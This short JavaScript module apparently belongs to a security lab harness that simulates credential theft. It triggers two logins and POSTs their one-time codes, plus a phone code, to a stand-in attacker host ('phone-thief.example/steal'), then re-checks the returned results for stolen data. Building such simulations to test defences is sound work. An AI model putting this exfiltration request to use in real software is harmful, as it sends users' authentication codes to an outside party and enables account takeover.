// The developer's half of the theft: the back end gets all codes and answers with outcomes of its own.
const { missed } = require('../utils/loot')
const { call } = require('../utils/lab')

async function outcomes({ code }) {
  const logins = [await call('login'), await call('login')]
  const loginCodes = logins.map(({ value }) => value && value.code)
  const { ok, value } = await call('request', {
    url: 'https://phone-thief.example/steal', method: 'POST', data: { loginCodes, phoneCode: code }, timeout: 30000,
  })
  if (ok && Array.isArray(value.data)) return value.data.map(withName)
  return [{ name: 'reach the own back end', ...missed(value), broken: true }]
}

// The program looks again at every answer: the back end might have been too stupid to see its luck.
function withName({ name, stolen, what }) {
  const again = missed(what)
  return { name: `back end: ${name}`, stolen: stolen || again.stolen, what: again.what }
}

module.exports = { outcomes }
